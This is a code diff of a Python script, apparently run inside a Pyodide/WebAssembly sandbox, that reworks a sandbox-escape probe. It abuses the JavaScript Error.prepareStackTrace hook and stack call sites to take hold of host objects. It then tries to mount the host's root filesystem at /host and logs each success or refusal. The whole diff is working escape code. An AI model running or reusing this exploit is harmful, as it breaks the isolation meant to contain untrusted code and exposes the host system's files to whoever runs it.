@@ -199,11 +199,12 @@ if core is not None and hasattr(core, 'to_js'):
     try:
         err = None
         try:
-            core.raw_call(o, None)
+            O.defineProperty(1, 'x', core.to_js({}))
         except BaseException as e:
             err = getattr(e, 'js_error', None)
         if err is not None:
-            E = err.constructor
+            E = O.getPrototypeOf(err.constructor)
+            note('error ctor', str(E)[:40])
             def prep(e, sites):
                 for s in sites:
                     for getter in ('getThis', 'getFunction'):
@@ -213,37 +214,34 @@ if core is not None and hasattr(core, 'to_js'):
                             continue
                         if t is None:
                             continue
-                        for k in ('FS', 'process', 'require', 'fetch', 'mountNodeFS', 'exports'):
+                        note('GOT', 'call site', getter, str(t)[:60])
+                        for k in ('FS', 'mountNodeFS'):
                             try:
                                 v = getattr(t, k)
-                                if v is not None:
-                                    note('site', getter, k)
-                                    if k == 'FS':
-                                        try:
-                                            v.mkdir('/host')
-                                        except BaseException:
-                                            pass
-                                        try:
-                                            v.mount(v.filesystems.NODEFS, core.to_js({'root': '/'}), '/host')
-                                            note('GOT', 'mounted the host')
-                                        except BaseException as e2:
-                                            note('refused', 'mount', type(e2).__name__)
-                                    if k == 'mountNodeFS':
-                                        try:
-                                            t.mountNodeFS('/host2', '/')
-                                            note('GOT', 'mountNodeFS')
-                                        except BaseException as e2:
-                                            note('refused', 'mountNodeFS', type(e2).__name__)
                             except BaseException:
-                                pass
+                                continue
+                            try:
+                                if k == 'FS':
+                                    v.mkdir('/host')
+                                    v.mount(v.filesystems.NODEFS, core.to_js({'root': '/'}), '/host')
+                                else:
+                                    v('/host2', '/')
+                                note('GOT', 'mounted the host')
+                            except BaseException as e2:
+                                note('refused', 'mount', type(e2).__name__)
                 return 'x'
-            E.prepareStackTrace = core.create_proxy(prep)
             try:
-                core.raw_call(o, None)
+                E.prepareStackTrace = core.create_proxy(prep)
             except BaseException as e:
-                s = getattr(getattr(e, 'js_error', None), 'stack', None)
+                note('refused', 'prepareStackTrace', type(e).__name__)
+            if E.prepareStackTrace is not None:
+                note('GOT', 'prepareStackTrace installed')
+            try:
+                O.defineProperty(1, 'x', core.to_js({}))
+            except BaseException as e:
+                s = str(getattr(getattr(e, 'js_error', None), 'stack', ''))
     except BaseException as e:
-        note('stack-probe', type(e).__name__)
+        note('stack-probe', type(e).__name__, str(e)[:80])
 import os
 for p in ('/host', '/host2'):
     try:
